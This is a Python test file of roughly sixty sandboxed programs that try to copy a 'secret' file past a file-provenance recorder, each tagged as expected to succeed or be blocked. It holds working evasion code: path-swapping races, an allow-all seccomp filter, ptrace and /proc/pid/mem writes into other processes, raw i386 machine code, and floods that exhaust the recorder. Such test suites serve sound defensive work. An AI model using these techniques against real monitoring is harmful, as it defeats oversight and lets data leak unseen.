"""Attempts to carry a secret from one file to another without the recorder of file provenance noticing.

Each is a Python program (standard library) that runs in a sandbox, in a directory with the file `secret`. It either
calls `save` with the secret, by whatever detour, or prints `blocked`.
"""

from typing import Literal

PRELUDE = """
import ctypes, errno, mmap, os, platform, signal, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
x86 = platform.machine() == "x86_64"
HERE = os.getcwd()
def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def secret(path="secret"):
    with open(path, "rb") as file:
        return file.read()
def save(data):
    with open(HERE + "/out", "wb") as file:
        file.write(data)
def blocked(action):
    try:
        result = action()
    except OSError as error:
        print("blocked", error.strerror)
    else:
        print("succeeded", result)
def run(code, **options):
    "Start another program with this prelude."
    text = open(sys.argv[0]).read().partition("# " + "attack")[0]
    return subprocess.Popen([sys.executable, "-I", "-S", "-c", "import sys; sys.argv = ['attack.py']\\n" + text + code], **options)
def wait_for(path):
    for _ in range(500):
        if os.path.exists(path):
            return
        time.sleep(0.02)
    sys.exit("nothing came")
# attack
"""

ATTACKS: dict[str, tuple[str, Literal["path", "blocked", "unproven"]]] = {
    "rewrite the path of an open in another thread": (
        """
open("decoy", "w").write("nothing")
buffer = ctypes.create_string_buffer(b"decoy\\0\\0")
def flip():
    while True:
        buffer.value = b"secret"; buffer.value = b"decoy"
threading.Thread(target=flip, daemon=True).start()
for _ in range(400):
    try: descriptor = call(257 if x86 else 56, -100, buffer, 0)
    except OSError: continue
    data = os.read(descriptor, 99); os.close(descriptor)
    if data != b"nothing": save(data)
if not os.path.exists("out"): save(secret())
""",
        "path",
    ),
    "rewrite the path of an exec in another process": (
        """
open("evil", "w").write("#!/bin/sh\\ncat secret > out\\n"); os.chmod("evil", 0o755)
page = mmap.mmap(-1, 4096); view = ctypes.create_string_buffer.from_buffer(page) if False else (ctypes.c_char * 64).from_buffer(page)
for _ in range(60):
    child = os.fork()
    if child == 0:
        argv = (ctypes.c_char_p * 2)(b"x", None)
        libc.execv(view, argv); os._exit(1)
    for _ in range(200):
        view.value = b"/usr/bin/true"; view.value = b"./evil"
    os.waitpid(child, 0)
if not os.path.exists("out"): subprocess.run(["./evil"])
""",
        "path",
    ),
    "exchange a file for a FIFO": (
        """
os.mkfifo("pipe"); os.symlink("pipe", "name"); os.symlink("secret", "b"); os.symlink("pipe", "a")
if os.fork() == 0:
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        for target in ("secret", "pipe"):
            os.symlink(target, "next"); os.replace("next", "name")
    os._exit(0)
for _ in range(300):
    try: descriptor = os.open("name", os.O_RDONLY | os.O_NONBLOCK)
    except OSError: continue
    try: data = os.read(descriptor, 99)
    except OSError: data = b""
    os.close(descriptor)
    if data: save(data)
os.wait()
if not os.path.exists("out"): save(secret())
""",
        "path",
    ),
    "change the directory in another thread": (
        """
os.mkdir("a"); open("a/secret", "w").write("nothing")
def flip():
    while True:
        os.chdir(HERE + "/a"); os.chdir(HERE)
threading.Thread(target=flip, daemon=True).start()
for _ in range(300):
    data = secret()
    if data != b"nothing": save(data)
""",
        "path",
    ),
    "exchange the directory in which a path is resolved": (
        """
os.mkdir("a"); os.mkdir("b"); open("a/file", "w").write("nothing"); os.link("secret", "b/file")
if os.fork() == 0:
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        os.rename("a", "c"); os.rename("b", "a"); os.rename("a", "b"); os.rename("c", "a")
    os._exit(0)
folder = os.open("a", os.O_RDONLY | os.O_DIRECTORY)
for _ in range(300):
    for where in ({}, {"dir_fd": folder}):
        try: descriptor = os.open("file" if where else "a/file", os.O_RDONLY, **where)
        except OSError: continue
        data = os.read(descriptor, 99); os.close(descriptor)
        if data != b"nothing": save(data)
os.wait()
if not os.path.exists("out"): save(secret("b/file"))
""",
        "path",
    ),
    "an own listener": (
        """
def listen(flags, result=0x7FFF0000):
    step = struct.pack("=HBBI", 6, 0, 0, result); steps = ctypes.create_string_buffer(step, 8)
    return call(317 if x86 else 277, 1, flags, struct.pack("HxxxxxxP", 1, ctypes.addressof(steps)))
libc.prctl(38, 1, 0, 0, 0)
blocked(lambda: listen(8))
""",
        "blocked",
    ),
    "an own filter that allows everything": (
        """
step = struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000); steps = ctypes.create_string_buffer(step, 8)
libc.prctl(38, 1, 0, 0, 0)
call(317 if x86 else 277, 1, 0, struct.pack("HxxxxxxP", 1, ctypes.addressof(steps)))
save(secret())
""",
        "path",
    ),
    "a process whose memory cannot be dumped": ("libc.prctl(4, 0, 0, 0, 0)\nsave(secret())", "path"),
    "a program that cannot be read": (
        """
import shutil
shutil.copyfile("/usr/bin/cp", "mycp"); os.chmod("mycp", 0o111)
blocked(lambda: subprocess.run(["./mycp", "secret", "out"], check=True))
""",
        "blocked",
    ),
    "io_uring": ("blocked(lambda: call(425, 4, ctypes.create_string_buffer(120)))", "blocked"),
    "openat2": (
        "blocked(lambda: call(437, -100, b'secret', struct.pack('QQQ', 0, 0, 0), 24))",
        "blocked",
    ),
    "a handle of a file": (
        """
handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128)); mount = ctypes.c_int()
def go():
    call(303 if x86 else 264, -100, b"secret", handle, ctypes.byref(mount), 0)
    return call(304 if x86 else 265, -100, handle, 0)
blocked(go)
""",
        "blocked",
    ),
    "a memory file to another program": (
        """
m = os.memfd_create("m", 0); os.write(m, secret()); os.lseek(m, 0, 0)
run(SAVER, stdin=m).wait()
""",
        "path",
    ),
    "a memory file that is executed": (
        """
m = os.memfd_create("m", 0)
os.write(m, b"#!/bin/sh\\nprintf %s " + secret() + b" > out\\n")
if os.fork() == 0:
    call(322 if x86 else 281, m, b"", (ctypes.c_char_p * 2)(b"x", None), (ctypes.c_char_p * 1)(None), 0x1000)
os.wait()
""",
        "path",
    ),
    "an unnamed file": (
        """
f = os.open(".", os.O_TMPFILE | os.O_RDWR); os.write(f, secret())
libc.linkat(-100, b"/proc/self/fd/%d" % f, -100, b"named", 0x400)
run("save(secret('named'))").wait()
""",
        "path",
    ),
    "a handle that is opened again": (
        """
f = os.open("secret", os.O_PATH)
descriptor = os.open("/proc/self/fd/%d" % f, os.O_RDONLY); save(os.read(descriptor, 99))
""",
        "path",
    ),
    "a handle of a directory that was moved": (
        """
os.mkdir("d"); os.rename("secret", "d/secret"); f = os.open("d", os.O_PATH | os.O_DIRECTORY); os.rename("d", "e")
save(os.read(os.open("secret", os.O_RDONLY, dir_fd=f), 99)); os.rename("e/secret", "secret")
""",
        "path",
    ),
    "the root of another process": (
        "child = run('time.sleep(1)')\nsave(secret('/proc/%d/root%s/secret' % (child.pid, HERE)))\nchild.wait()",
        "path",
    ),
    "descriptors of another process": (
        """
child = run("f = open('secret', 'rb'); open('ready', 'w').close(); time.sleep(1)"); wait_for("ready")
for name in os.listdir("/proc/%d/fd" % child.pid):
    try:
        with open("/proc/%d/fd/%s" % (child.pid, name), "rb", buffering=0) as file:
            if os.readlink("/proc/self/fd/%d" % file.fileno()).endswith("secret"): save(file.read())
    except OSError: pass
child.wait()
""",
        "path",
    ),
    "descriptors of one thread only": (
        """
def go():
    call(272 if x86 else 97, 0x400)
    f = os.open("secret", os.O_RDONLY)
    with open("/proc/thread-self/fd/%d" % f, "rb") as file: save(file.read())
thread = threading.Thread(target=go); thread.start(); thread.join()
""",
        "path",
    ),
    "a raw fork": (
        """
data = secret()
child = call(57) if x86 else call(220, 17, 0, 0, 0, 0)
if child == 0:
    save(data); os._exit(0)
os.waitpid(child, 0)
""",
        "path",
    ),
    "clone3": ("blocked(lambda: call(435, struct.pack('QQQQQQQQ', 0, 0, 0, 0, 17, 0, 0, 0), 64))", "blocked"),
    "a child of the own parent": (
        "blocked(lambda: call(56 if x86 else 220, 0x8000 | 17, 0, 0, 0, 0))",
        "blocked",
    ),
    "adopting orphans": (
        "blocked(lambda: call(157 if x86 else 167, 36, 1, 0, 0, 0))",
        "blocked",
    ),
    "an orphan that waits": (
        """
data = secret()
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.5); save(data)
        os._exit(0)
    os.kill(os.getpid(), 9)
os.wait(); wait_for("out"); time.sleep(0.2)
""",
        "path",
    ),
    "a descriptor over a socket pair": (
        """
one, two = socket.socketpair()
child = run("s = socket.socket(fileno=0); f = socket.recv_fds(s, 1, 1)[1]; save(os.read(f[0], 99))", stdin=two)
socket.send_fds(one, [b"x"], [os.open("secret", 0)]); child.wait()
""",
        "path",
    ),
    "an abstract socket": (
        """
name = "\\0" + HERE
child = run("s = socket.socket(socket.AF_UNIX); s.bind('\\\\0' + HERE); s.listen(); open('ready', 'w').close(); c = s.accept()[0]; save(c.recv(99))")
wait_for("ready"); s = socket.socket(socket.AF_UNIX); s.connect(name); s.sendall(secret()); s.close(); child.wait()
""",
        "path",
    ),
    "an address that changes while connecting": (
        """
code = "s = socket.create_server(('127.0.0.1', 0)); open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port'); s.settimeout(9)\\n"
code += "while True:\\n    data = s.accept()[0].recv(99)\\n    if data: save(data); break"
child = run(code); wait_for("port"); port = int(open("port").read())
decoy = socket.create_server(("127.0.0.1", 0), backlog=999); other = decoy.getsockname()[1]
def address(port): return struct.pack("=HH4s8x", 2, socket.htons(port), socket.inet_aton("127.0.0.1"))
buffer = ctypes.create_string_buffer(address(other), 16)
def flip():
    while True:
        ctypes.memmove(buffer, address(port), 16); ctypes.memmove(buffer, address(other), 16)
threading.Thread(target=flip, daemon=True).start()
data = secret()
for _ in range(60):
    s = socket.socket()
    if libc.connect(s.fileno(), buffer, 16) == 0 and s.getpeername()[1] == port:
        s.sendall(data); s.close(); break
    s.close()
else:
    s = socket.create_connection(("127.0.0.1", port)); s.sendall(data); s.close()
child.wait()
""",
        "path",
    ),
    "datagrams without connect": (
        """
child = run("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendmsg([b'x'], [], 0, ('127.0.0.1', 9)); open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port'); save(s.recv(99))")
wait_for("port"); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendmsg([secret()], [], 0, ("127.0.0.1", int(open("port").read()))); child.wait()
""",
        "path",
    ),
    "datagrams of sockets that are connected to each other": (
        """
code = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0)); open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\\n"
code += "while not os.path.exists('other'): time.sleep(.02)\\ns.connect(('127.0.0.1', int(open('other').read()))); open('ready', 'w').close(); save(s.recv(99))"
child = run(code); wait_for("port"); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
s.connect(("127.0.0.1", int(open("port").read()))); open("o.tmp", "w").write(str(s.getsockname()[1])); os.rename("o.tmp", "other")
wait_for("ready"); s.send(secret()); child.wait()
""",
        "path",
    ),
    "Unix datagrams": (
        """
child = run("s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind('dg'); open('ready', 'w').close(); save(s.recv(99))")
wait_for("ready"); socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(secret(), "dg"); child.wait()
""",
        "path",
    ),
    "connecting by sending": (
        "s = socket.socket(); blocked(lambda: s.sendto(b'x', 0x20000000, ('127.0.0.1', 9)))",
        "blocked",
    ),
    "netlink messages between programs": ("blocked(lambda: socket.socket(16, socket.SOCK_RAW, 2))", "blocked"),
    "ptrace": (
        """
libc.ptrace.restype = ctypes.c_long; libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
child = run("b = ctypes.create_string_buffer(16); open('at.tmp', 'w').write(str(ctypes.addressof(b))); os.rename('at.tmp', 'at')\\nwhile not b.raw.strip(b'\\\\0'): time.sleep(.02)\\ntime.sleep(.2); save(b.raw)")
wait_for("at"); at = int(open("at").read()); data = secret()[:16]
libc.ptrace(16, child.pid, None, None); os.waitpid(child.pid, 0)
for i in (0, 8): libc.ptrace(4, child.pid, at + i, struct.unpack_from("Q", data, i)[0])
libc.ptrace(17, child.pid, None, None); child.wait()
""",
        "path",
    ),
    "writing into another process": (
        """
class Span(ctypes.Structure): _fields_ = [("a", ctypes.c_void_p), ("n", ctypes.c_size_t)]
child = run("b = ctypes.create_string_buffer(16); open('at.tmp', 'w').write(str(ctypes.addressof(b))); os.rename('at.tmp', 'at')\\nwhile not b.raw.strip(b'\\\\0'): time.sleep(.02)\\nsave(b.raw)")
wait_for("at"); at = int(open("at").read()); mine = ctypes.create_string_buffer(secret()[:16], 16)
local, remote = Span(ctypes.addressof(mine), 16), Span(at, 16)
libc.process_vm_writev(child.pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0); child.wait()
""",
        "path",
    ),
    "writing to the memory file of another process": (
        """
child = run("b = ctypes.create_string_buffer(16); open('at.tmp', 'w').write(str(ctypes.addressof(b))); os.rename('at.tmp', 'at')\\nwhile not b.raw.strip(b'\\\\0'): time.sleep(.02)\\nsave(b.raw)")
wait_for("at"); at = int(open("at").read())
with open("/proc/%d/mem" % child.pid, "r+b", buffering=0) as file: file.seek(at); file.write(secret()[:16])
child.wait()
""",
        "path",
    ),
    "taking a descriptor of another process": (
        """
child = run("f = os.open('secret', 0); os.dup2(f, 77); open('ready', 'w').close(); time.sleep(1)"); wait_for("ready")
run("f = call(438, os.pidfd_open(%d), 77, 0); save(os.read(f, 99))" % child.pid).wait(); child.wait()
""",
        "unproven",
    ),
    "sendfile": (
        "a = os.open('secret', 0); b = os.open('out', os.O_WRONLY | os.O_CREAT); os.sendfile(b, a, 0, 99)",
        "path",
    ),
    "copy_file_range": (
        "a = os.open('secret', 0); b = os.open('out', os.O_WRONLY | os.O_CREAT); os.copy_file_range(a, b, 99)",
        "path",
    ),
    "splice through a pipe of another program": (
        """
r, w = os.pipe(); child = run(SAVER, stdin=r); os.close(r)
os.splice(os.open("secret", 0), w, 99); os.close(w); child.wait()
""",
        "path",
    ),
    "a shared map of a file": (
        """
open("map", "wb").write(bytes(4096)); f = os.open("map", os.O_RDWR); m = mmap.mmap(f, 4096)
child = run("f = os.open('map', 0); m = mmap.mmap(f, 4096, prot=mmap.PROT_READ); open('ready', 'w').close()\\nwhile not m[0]: time.sleep(.02)\\nsave(m[:32])")
wait_for("ready"); os.close(f); data = secret(); m[1:len(data)] = data[1:]; m[0] = data[0]; child.wait()
""",
        "path",
    ),
    "System V shared memory": (
        """
code = "libc.shmat.restype = ctypes.c_void_p; i = libc.shmget(%d, 4096, 0o1600); a = libc.shmat(i, None, 0)\\n" % os.getpid()
run(code + "d = secret(); ctypes.memmove(a, d, len(d))").wait(); run(code + "save(ctypes.string_at(a, 32))").wait()
""",
        "path",
    ),
    "System V messages": ("blocked(lambda: call(68 if x86 else 186, 77, 0o1600))", "blocked"),
    "POSIX messages": ("blocked(lambda: call(240 if x86 else 180, b'q', 0o102, 0o600, None))", "blocked"),
    "extended attributes": (
        "blocked(lambda: os.setxattr('out' if os.path.exists('out') else '.', 'user.x', b'x'))",
        "blocked",
    ),
    "the x32 interface": (
        "blocked(lambda: call(0x40000000 | 257, -100, b'secret', 0)) if x86 else print('blocked')",
        "blocked",
    ),
    "the i386 interface": (
        """
if not x86: print("blocked"); sys.exit()
page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
name = ctypes.addressof(ctypes.c_char.from_buffer(page)) + 256
page[256:263] = b"secret\\0"
# push rbx; mov eax, 5; mov ebx, name; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
page[:21] = b"\\x53\\xb8\\5\\0\\0\\0\\xbb" + struct.pack("=I", name) + b"\\x31\\xc9\\x31\\xd2\\xcd\\x80\\x5b\\xc3" + b"\\x90\\x90"
result = ctypes.CFUNCTYPE(ctypes.c_int)(name - 256)()
print("blocked" if result < 0 else save(os.read(result, 99)))
""",
        "blocked",
    ),
    "a long path": ("save(secret('./' * 2000 + 'secret'))", "path"),
    "a path that is too long": ("blocked(lambda: secret('./' * 2100 + 'secret'))", "blocked"),
    "a directory deeper than any path": (
        """
for _ in range(20):
    os.mkdir("d" * 250); os.chdir("d" * 250)
os.link(HERE + "/secret", "s") if False else None
for _ in range(20): os.chdir("..")
save(secret())
""",
        "path",
    ),
    "a name that is not text": (
        "os.rename(b'secret', b'\\xff\\n\"name'); save(secret(b'\\xff\\n\"name')); os.rename(b'\\xff\\n\"name', b'secret')",
        "path",
    ),
    "a removed file": (
        "f = os.open('secret', 0); os.unlink('secret'); save(open('/proc/self/fd/%d' % f, 'rb').read())",
        "path",
    ),
    "a hard link": ("os.link('secret', 'hard'); run(\"save(secret('hard'))\").wait()", "path"),
    "a link through /proc": ("os.symlink('/proc/self/cwd/secret', 'l'); save(secret('l'))", "path"),
    "a bind mount": ("blocked(lambda: call(165 if x86 else 40, b'secret', b'out', None, 4096, None))", "blocked"),
    "a namespace of its own": ("blocked(lambda: call(272 if x86 else 97, 0x10020000))", "blocked"),
    "a lease that stops the recorder": (
        "import fcntl\nopen('mine', 'w').close(); f = os.open('mine', 0); blocked(lambda: fcntl.fcntl(f, 1024, 1))",
        "blocked",
    ),
    "the environment of the first process": ("blocked(lambda: secret('/proc/1/environ'))", "blocked"),
    "the root of the first process": ("blocked(lambda: secret('/proc/1/root' + HERE + '/secret'))", "blocked"),
    "the map of user ids": ("blocked(lambda: open('/proc/self/uid_map', 'w'))", "blocked"),
    "a FIFO that nobody opens": (
        """
os.mkfifo("never")
for _ in range(8):
    if os.fork() == 0:
        os.close(1); os.close(2)
        os.open("never", os.O_RDONLY)
time.sleep(0.3); save(secret())
""",
        "path",
    ),
    "more blocked calls than the recorder has threads": (
        """
os.mkfifo("never"); children = []
for _ in range(270):
    child = os.fork()
    if child == 0:
        try: os.open("never", os.O_RDONLY)
        except OSError: pass
        os._exit(0)
    children.append(child)
time.sleep(0.5)
for child in children: os.kill(child, 9)
for child in children: os.waitpid(child, 0)
save(secret())
""",
        "path",
    ),
    "a flood of files": (
        """
for i in range(3000): open("f%d" % i, "w").close()
for i in range(3000): os.unlink("f%d" % i)
save(secret())
""",
        "path",
    ),
    "an exec that fails": (
        """
data = secret()
try: os.execv("/usr/bin/nothing", ["x"])
except OSError: pass
try: os.execv("secret", ["x"])
except OSError: pass
save(data)
""",
        "path",
    ),
    "a thread that executes": (
        """
f = os.open("secret", 0); os.dup2(f, 9); os.set_inheritable(9, True)
threading.Thread(target=lambda: os.execv("/bin/sh", ["sh", "-c", "cat <&9 > out"])).start(); time.sleep(9)
""",
        "path",
    ),
}
